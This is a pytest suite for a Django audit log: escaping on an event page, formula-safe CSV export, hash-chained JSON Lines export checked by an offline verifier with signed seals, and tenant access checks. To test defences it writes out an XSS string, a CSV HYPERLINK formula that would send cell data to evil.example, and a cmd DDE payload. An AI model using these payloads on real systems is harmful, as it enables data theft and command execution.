"""One event's page, and the downloads: CSV that no spreadsheet runs as a formula, and JSON
Lines that ``python -m audit.verify_export`` checks offline, without Django."""

from __future__ import annotations

import ast
import base64
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.urls import reverse

import audit
from accounts.tenancy import agency_context
from audit import verify_export
from audit.models import AuditEvent

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]


def _record(tenant, action="auth.login", **kwargs) -> AuditEvent:
    with agency_context(tenant.agency):
        return audit.record(action, agency=tenant.agency, **kwargs)


# --- One event --------------------------------------------------------------------------------


def test_an_event_page_shows_every_field_its_details_escaped_and_its_place_on_the_chain(
    tenant, client_for
):
    first = _record(tenant, actor=tenant.staff)
    event = _record(
        tenant,
        "page.view",
        actor=tenant.staff,
        details={"path": "/x/<script>alert(1)</script>", "n": 7},
    )
    admin = client_for(tenant.admin, tenant.host)
    response = admin.get(reverse("staff:audit_event", args=[event.pk]))
    assert response.status_code == 200
    page = response.content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "\n  &quot;n&quot;: 7" in page  # pretty-printed, one key a line
    assert event.hash in page
    assert event.prev_hash == first.hash
    assert first.hash in page
    with agency_context(tenant.agency):
        place = AuditEvent.objects.filter(agency=tenant.agency, id__lte=event.pk).count()
    assert f"Event number {place} of this agency" in page
    assert reverse("staff:audit_event", args=[first.pk]) in page
    assert reverse("staff:audit_log") in page
    assert "America/Chicago" in page


def test_another_agencys_event_is_a_404_and_the_page_needs_the_lists_permission(
    tenant, other_tenant, client_for
):
    with agency_context(other_tenant.agency):
        theirs = audit.record("auth.login", agency=other_tenant.agency)
    mine = _record(tenant)
    admin = client_for(tenant.admin, tenant.host)
    assert admin.get(reverse("staff:audit_event", args=[theirs.pk])).status_code == 404
    assert admin.get(reverse("staff:audit_event", args=[2**63 + 5])).status_code == 404
    # Their admin, on our site, is an outsider.
    outsider = client_for(other_tenant.admin, tenant.host)
    assert outsider.get(reverse("staff:audit_event", args=[mine.pk])).status_code == 404
    # Staff without the audit permission get what the list gives them.
    staff = client_for(tenant.staff, tenant.host)
    list_status = staff.get(reverse("staff:audit_log")).status_code
    assert list_status in (403, 404)
    assert staff.get(reverse("staff:audit_event", args=[mine.pk])).status_code == list_status


# --- CSV --------------------------------------------------------------------------------------


def _download(client, name: str, **query) -> str:
    response = client.get(reverse(name), query)
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
    tenant, client_for, start
):
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    tenant.staff.full_name = f"{start}cmd|' /C calc'!A0"
    tenant.staff.save(update_fields=["full_name"])
    _record(tenant, "auth.login", actor=tenant.staff, details={"note": "plain"})
    _record_with_agent(tenant, payload + "\x1b[31m\nforged,row")
    admin = client_for(tenant.admin, tenant.host)
    rows = list(csv.reader(io.StringIO(_download(admin, "staff:audit_export"))))
    header, body = rows[0], rows[1:]
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert "\x1b" not in cell and "\n" not in cell
    agents = [row[header.index("user_agent")] for row in body]
    encoded = payload.replace("\r", "\\x0d").replace("\t", "\\x09")
    assert f"'{encoded}\\x1b[31m\\x0aforged,row" in agents
    actors = {row[header.index("actor")] for row in body}
    assert any(a.startswith("'") and "cmd|" in a for a in actors)


def _record_with_agent(tenant, user_agent: str) -> AuditEvent:
    from django.test import RequestFactory

    request = RequestFactory().get("/", HTTP_USER_AGENT=user_agent)
    request.agency = tenant.agency
    request.user = tenant.staff
    with agency_context(tenant.agency):
        return audit.record("auth.login", http_request=request)


def test_the_csv_takes_the_filters_and_every_download_is_recorded(tenant, client_for):
    _record(tenant, "auth.login", actor=tenant.staff)
    _record(tenant, "auth.logout", actor=tenant.staff)
    admin = client_for(tenant.admin, tenant.host)
    text = _download(admin, "staff:audit_export", action="auth.logout")
    actions = {row["action"] for row in csv.DictReader(io.StringIO(text))}
    assert actions == {"auth.logout"}
    _download(admin, "staff:audit_export_jsonl")
    with agency_context(tenant.agency):
        exports = list(
            AuditEvent.objects.filter(agency=tenant.agency, action="audit.log_exported")
            .order_by("id")
            .values_list("actor_id", "details")
        )
    assert exports == [
        (tenant.admin.pk, {"format": "csv", "filters": {"action": "auth.logout"}}),
        (tenant.admin.pk, {"format": "jsonl", "filters": {}}),
    ]
    log = admin.get(reverse("staff:audit_log")).content.decode()
    assert "downloaded the audit log as a spreadsheet (CSV) (filtered)" in log


# --- JSON Lines and the offline verifier -----------------------------------------------------


def _varied_chain(tenant) -> None:
    """Events with every kind of field: targets, addresses, nested and odd details."""
    _record(tenant, "auth.login", actor=tenant.staff)
    _record_with_agent(tenant, "Mozilla/5.0 \x1b[2J ünï \u2028")
    with agency_context(tenant.agency):
        from accounts.models import Membership

        membership = Membership.objects.filter(agency=tenant.agency).first()
    _record(
        tenant,
        "page.view",
        actor=tenant.admin,
        target=membership,
        details={"path": '/a"b\\c', "n": [1, 2.5, None, True], "deep": {"é": "💥"}},
    )
    _record(tenant, "auth.logout", actor=tenant.admin, details={"big": 2**62, "neg": -0.125})


def _export(tenant, client_for, tmp_path, **query) -> Path:
    admin = client_for(tenant.admin, tenant.host)
    path = tmp_path / "export.jsonl"
    path.write_text(_download(admin, "staff:audit_export_jsonl", **query), encoding="utf-8")
    return path


def _run_verifier(*args: str) -> subprocess.CompletedProcess[str]:
    """The documented command, in a fresh interpreter with no Django settings and no
    environment beyond PATH."""
    return subprocess.run(  # noqa: S603 (our own interpreter and module)
        [sys.executable, "-m", "audit.verify_export", *args],
        cwd=ROOT,
        env={"PATH": os.environ.get("PATH", "")},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


def test_a_jsonl_export_verifies_offline_and_a_changed_line_is_named(tenant, client_for, tmp_path):
    _varied_chain(tenant)
    path = _export(tenant, client_for, tmp_path)
    lines = path.read_text(encoding="utf-8").splitlines()
    header, events, end = json.loads(lines[0]), [json.loads(x) for x in lines[1:-1]], lines[-1]
    assert header["complete"] is True
    with agency_context(tenant.agency):
        stored = list(AuditEvent.objects.filter(agency=tenant.agency).order_by("id"))
    # Every event of the chain (the export's own event too), in order, with its place.
    assert [e["id"] for e in events] == [e.pk for e in stored]
    assert [e["sequence"] for e in events] == list(range(1, len(stored) + 1))
    assert events[0]["prev_hash"] == "0" * 64
    assert json.loads(end)["head_hash"] == stored[-1].hash
    assert all(line.isascii() for line in lines)

    passed = _run_verifier(str(path))
    assert passed.returncode == 0, passed.stdout + passed.stderr
    assert f"OK: {len(stored)} events" in passed.stdout

    # Rewrite one event's details (line 4 of the file): the verifier names that line.
    tampered = list(lines)
    record = json.loads(tampered[3])
    record["hashed"]["details"] = {"path": "/nothing-to-see"}
    tampered[3] = json.dumps(record)
    path.write_text("\n".join(tampered) + "\n", encoding="utf-8")
    failed = _run_verifier(str(path))
    assert failed.returncode == 1
    assert f"line 4: event {record['id']}" in failed.stdout
    assert "do not match its hash" in failed.stdout

    # Remove an event: the next one's place shows the gap.
    path.write_text("\n".join(lines[:3] + lines[4:]) + "\n", encoding="utf-8")
    removed = _run_verifier(str(path))
    assert removed.returncode == 1
    assert "line 4:" in removed.stdout and "is missing" in removed.stdout

    # Renumber the rest to hide the gap: the link no longer holds.
    renumbered = [lines[0], *lines[1:3]]
    for line in lines[4:-1]:
        record = json.loads(line)
        record["sequence"] -= 1
        renumbered.append(json.dumps(record))
    path.write_text("\n".join(renumbered) + "\n", encoding="utf-8")
    hidden = _run_verifier(str(path))
    assert hidden.returncode == 1
    assert "line 4:" in hidden.stdout and "previous hash" in hidden.stdout

    # Cut short: no end line.
    path.write_text("\n".join(lines[:-1]) + "\n", encoding="utf-8")
    assert _run_verifier(str(path)).returncode == 1


def test_a_filtered_export_carries_chain_positions_and_still_verifies(tenant, client_for, tmp_path):
    _varied_chain(tenant)
    path = _export(tenant, client_for, tmp_path, action="auth.logout")
    lines = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
    events = [x for x in lines if x["type"] == "event"]
    assert [e["hashed"]["action"] for e in events] == ["auth.logout"]
    assert events[0]["sequence"] > 1
    assert lines[0]["complete"] is False
    assert lines[0]["filters"] == {"action": "auth.logout"}
    result = _run_verifier(str(path))
    assert result.returncode == 0, result.stdout
    assert "filtered export" in result.stdout

    # Every kind of filter can narrow an export.
    path = _export(
        tenant,
        client_for,
        tmp_path,
        actor=tenant.admin.email,
        ip="127.0.0.0/8",
        q="nothing-matches-this",
        date_from="2000-01-01",
        target_type="accounts.membership",
    )
    lines = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
    assert [x["type"] for x in lines] == ["export", "end"]
    assert lines[-1]["chain_events"] > 0
    csv_text = _download(client_for(tenant.admin, tenant.host), "staff:audit_export", q="b\\c")
    found = {row["action"] for row in csv.DictReader(io.StringIO(csv_text))}
    assert found == {"page.view", "audit.log_exported"}  # the download's own event too


def test_the_verifier_imports_nothing_but_the_standard_library_and_cryptography():
    source = (ROOT / "audit" / "verify_export.py").read_text()
    imported = set()
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            imported |= {alias.name.split(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            imported.add(node.module.split(".")[0])
    assert imported - set(sys.stdlib_module_names) == {"cryptography"}
    # And run as a program, Django is never loaded (the audit package imports it lazily).
    probe = subprocess.run(
        [
            sys.executable,
            "-c",
            "import sys, audit.verify_export; "
            "print(sorted(m for m in sys.modules if m.split('.')[0] in ('django', 'config')))",
        ],
        cwd=ROOT,
        env={"PATH": os.environ.get("PATH", "")},
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    assert probe.stdout.strip() == "[]"


def test_seals_are_checked_with_the_public_key_under_the_documented_encoding(tmp_path):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    key = Ed25519PrivateKey.generate()
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    hashed = {"agency": 3, "action": "auth.login", "details": {}}
    first_hash = verify_export.event_hash("0" * 64, hashed)

    def seal(prev_seal_hash: str, **changes) -> dict:
        fields = {
            "agency": 3,
            "head_id": 10,
            "head_hash": first_hash,
            "count": 1,
            "sealed_at": "2026-12-07T10:00:00+00:00",
            "prev_seal_hash": prev_seal_hash,
        }
        signature = key.sign(verify_export.canonical(fields))
        return {**fields, "signature": base64.b64encode(signature).decode(), **changes}

    first_seal = seal("0" * 64)
    second_seal = seal(verify_export.seal_chain_hash(first_seal))
    lines = [
        {"type": "export", "format": "portal-audit-log", "agency": 3, "complete": True},
        {
            "type": "event",
            "sequence": 1,
            "id": 10,
            "prev_hash": "0" * 64,
            "hash": first_hash,
            "hashed": hashed,
        },
        {"type": "seal", **first_seal},
        {"type": "seal", **second_seal},
        {"type": "end", "events": 1, "chain_events": 1, "head_id": 10, "head_hash": first_hash},
    ]
    public_key = verify_export.load_public_key(pem)
    as_text = [json.dumps(x) for x in lines]
    result = verify_export.verify(as_text, public_key)
    assert result.ok, result.problems
    assert result.seals == 2
    raw = key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    assert verify_export.verify(as_text, verify_export.load_public_key(raw.hex().encode())).ok

    forged = dict(lines[2], count=2)  # a field changed after signing
    assert "signature does not match" in " ".join(
        verify_export.verify([*as_text[:2], json.dumps(forged)], public_key).problems
    )
    skipped = [as_text[0], as_text[1], as_text[3], as_text[4]]  # the chain of seals is cut
    assert verify_export.verify(skipped, public_key).ok  # the first seal present may be any
    reordered = [as_text[0], as_text[1], as_text[3], as_text[2], as_text[4]]
    assert "a seal is missing" in " ".join(verify_export.verify(reordered, public_key).problems)
    rewritten = dict(first_seal, head_hash="f" * 64)
    assert "the log was rewritten" in " ".join(
        verify_export.verify([*as_text[:2], json.dumps({"type": "seal", **rewritten})]).problems
    )
    # On the command line, with the key in a PEM file.
    key_file = tmp_path / "seal.pem"
    key_file.write_bytes(pem)
    export = tmp_path / "export.jsonl"
    export.write_text("\n".join(as_text) + "\n")
    assert verify_export.main([str(export), "--public-key", str(key_file)]) == 0
    # The file alone, copied next to the export, is the whole tool.
    (tmp_path / "verify_export.py").write_text((ROOT / "audit" / "verify_export.py").read_text())
    alone = subprocess.run(
        [sys.executable, "-I", "verify_export.py", "export.jsonl", "--public-key", "seal.pem"],
        cwd=tmp_path,
        env={"PATH": os.environ.get("PATH", "")},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert alone.returncode == 0, alone.stdout + alone.stderr
    assert "OK: 1 events" in alone.stdout and "2 seal(s)" in alone.stdout


def test_seals_in_the_seal_modules_document_form_are_checked_too():
    """The seal module's own file ({"seal": {...}, "signature": URL-safe base64}, the
    signature over the canonical "seal" object, each naming the SHA-256 of the previous one's
    canonical "seal" object as ``prev_seal``), carried as a seal line."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    key = Ed25519PrivateKey.generate()
    hashed = {"agency": 4, "action": "auth.login", "details": {}}
    head = verify_export.event_hash("0" * 64, hashed)

    def document(prev: str, seq: int) -> dict:
        body = {
            "format": "portal-audit-seal/1",
            "chain": "agency-4",
            "agency_id": 4,
            "agency_slug": "delta",
            "seq": seq,
            "head_id": 21,
            "head_hash": head,
            "events": 1,
            "sealed_at": "2026-12-07T10:00:00+00:00",
            "prev_seal": prev,
            "key_id": "0123456789abcdef",
        }
        signature = base64.urlsafe_b64encode(key.sign(verify_export.canonical(body))).decode()
        return {"type": "seal", "seal": body, "signature": signature}

    first = document("0" * 64, 1)
    second = document(hashlib.sha256(verify_export.canonical(first["seal"])).hexdigest(), 2)
    lines = [
        {"type": "export", "format": "portal-audit-log", "agency": 4, "complete": True},
        {"type": "event", "sequence": 1, "id": 21, "prev_hash": "0" * 64, "hash": head,
         "hashed": hashed},
        first,
        second,
        {"type": "end", "events": 1, "chain_events": 1, "head_id": 21, "head_hash": head},
    ]  # fmt: skip
    public = key.public_key().public_bytes_raw()
    public_key = verify_export.load_public_key(base64.urlsafe_b64encode(public))
    as_text = [json.dumps(x) for x in lines]
    assert verify_export.verify(as_text, public_key).ok
    forged = json.loads(as_text[3])
    forged["seal"]["events"] = 2
    problems = verify_export.verify([*as_text[:3], json.dumps(forged)], public_key).problems
    assert "signature does not match" in " ".join(problems)
    assert "a seal is missing" in " ".join(
        verify_export.verify([as_text[0], as_text[1], as_text[3], as_text[2]], public_key).problems
    )


def test_an_export_carries_the_seals_that_cover_it_and_the_auditor_checks_them(
    tenant, client_for, tmp_path
):
    from audit.seals import format as seal_format
    from audit.seals import services as seal_services
    from vault import signing

    _varied_chain(tenant)
    seal_services.seal_chains()  # in the test's transaction: it sees the chain above
    _record(tenant, "auth.login", actor=tenant.admin)  # after the seal: covered by none yet
    seal_services.seal_chains()
    path = _export(tenant, client_for, tmp_path)
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    seals = [r for r in records if r["type"] == "seal"]
    assert [s["seal"]["seq"] for s in seals] == [1, 2]
    assert (
        seals[1]["seal"]["prev_seal"]
        == seal_format.parse(
            json.dumps({"seal": seals[0]["seal"], "signature": seals[0]["signature"]}).encode()
        ).digest
    )

    key = tmp_path / "seal-public-key.txt"
    key.write_text(signing.public_key_text(seal_format.public_key()), encoding="utf-8")
    passed = _run_verifier(str(path), "--public-key", str(key))
    assert passed.returncode == 0, passed.stdout + passed.stderr

    # A seal whose signature no longer holds (its sealed hash changed) is named.
    forged = [json.dumps(r) for r in records]
    index = next(i for i, r in enumerate(records) if r["type"] == "seal")
    records[index]["seal"]["events"] += 1
    forged[index] = json.dumps(records[index])
    path.write_text("\n".join(forged) + "\n", encoding="utf-8")
    failed = _run_verifier(str(path), "--public-key", str(key))
    assert failed.returncode == 1, failed.stdout


# --- The verification kit on the audit log page ------------------------------------------------


def test_an_admin_downloads_the_checker_and_key_and_verifies_a_sealed_export_alone(
    tenant, client_for, tmp_path
):
    """What the page tells an admin to do, done with only what the page hands out: the
    checker file, the seal key and the export, run in a bare interpreter elsewhere."""
    from django.core.management import call_command

    _varied_chain(tenant)
    call_command("audit_seal")
    admin = client_for(tenant.admin, tenant.host)
    page = admin.get(reverse("staff:audit_log")).content.decode()
    assert reverse("staff:audit_verifier") in page and reverse("staff:audit_public_key") in page
    assert f"verify_export.py audit-{tenant.agency.slug}.jsonl --public-key" in page
    for name in ("staff:audit_verifier", "staff:audit_public_key"):
        response = admin.get(reverse(name))
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
        filename = response["Content-Disposition"].split('filename="')[1].rstrip('"')
        (tmp_path / filename).write_bytes(response.content)
    export = f"audit-{tenant.agency.slug}.jsonl"
    (tmp_path / export).write_text(_download(admin, "staff:audit_export_jsonl"), encoding="utf-8")
    run = subprocess.run(  # noqa: S603 (our own interpreter, the downloaded checker)
        [
            sys.executable,
            "-I",
            "verify_export.py",
            export,
            "--public-key",
            "audit-seal-public-key.pem",
        ],
        cwd=tmp_path,
        env={"PATH": os.environ.get("PATH", "")},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert "OK:" in run.stdout and "seal(s)" in run.stdout and "not checked" not in run.stdout


def test_the_verification_kit_is_for_the_agencys_audit_readers_only(
    tenant, outsider, client_for, client
):
    for name in ("staff:audit_verifier", "staff:audit_public_key"):
        url = reverse(name)
        assert client_for(tenant.staff, tenant.host).get(url).status_code == 403
        assert client_for(outsider, tenant.host).get(url).status_code == 404
        assert client.get(url, HTTP_HOST=tenant.host).status_code == 302
